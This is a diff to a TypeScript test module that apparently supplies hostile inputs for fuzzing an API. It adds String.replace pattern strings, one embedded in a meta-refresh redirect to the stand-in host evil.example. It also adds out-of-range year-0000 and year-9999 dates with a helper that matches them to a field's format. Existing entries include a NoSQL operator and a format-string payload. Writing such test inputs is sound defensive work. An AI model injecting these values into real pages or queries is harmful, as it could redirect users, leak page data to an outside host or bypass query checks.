@@ -42,6 +42,11 @@ export const hostileStrings: Record<string, string> = {
   'Arabic with diacritics': 'مَرْحَبًا بِكُمْ',
   'full-width letters': 'ｓｅｌｅｃｔ＊',
   'NoSQL operator': '{"$gt": ""}',
+  // String.replace expands these in a replacement string: text put in that way copies parts of the page.
+  'replacement patterns': "$1 $2 $& $' $` $$ $<name>",
+  'replacement in a sentence': 'Lockers cost $1 extra',
+  'replacement meta refresh': '0;url=https://evil.example/?x$2 http-equiv=refresh x',
+  'replacement after a quote': "Ali's $' gym",
   'format string': '%s%s%s%n%x',
   'only spaces': '   ',
   'empty string': '',
@@ -49,6 +54,26 @@ export const hostileStrings: Record<string, string> = {
   '400 digits': '9'.repeat(400),
   'negative number': '-1',
   exponent: '1e309',
+}
+
+/**
+ * Dates and months of the right form in years no request may name: year 0 is no year to PostgreSQL
+ * and the day after 9999-12-31 is in year 10000. Each field whose value is a date (or a month, or a
+ * dd/mm/yyyy date) gets every one of its form.
+ */
+const outOfRange: Array<[RegExp, string[]]> = [
+  [
+    /^\d{4}-\d{2}-\d{2}$/,
+    ['0000-01-01', '0000-12-31', '9999-01-01', '9999-12-31', '1999-12-31', '2101-01-01'],
+  ],
+  [/^\d{4}-\d{2}$/, ['0000-01', '9999-12', '1999-12', '2101-01']],
+  [/^\d{2}\/\d{2}\/\d{4}$/, ['01/01/0000', '31/12/0000', '01/01/9999', '31/12/9999']],
+]
+
+/** Out-of-range dates in the form of `value`; none when it is no date. */
+export function outOfRangeDates(value: unknown): string[] {
+  if (typeof value !== 'string') return []
+  return outOfRange.find(([form]) => form.test(value))?.[1] ?? []
 }
 
 /** Values of every JSON type; a field gets the ones of a type other than its own. */
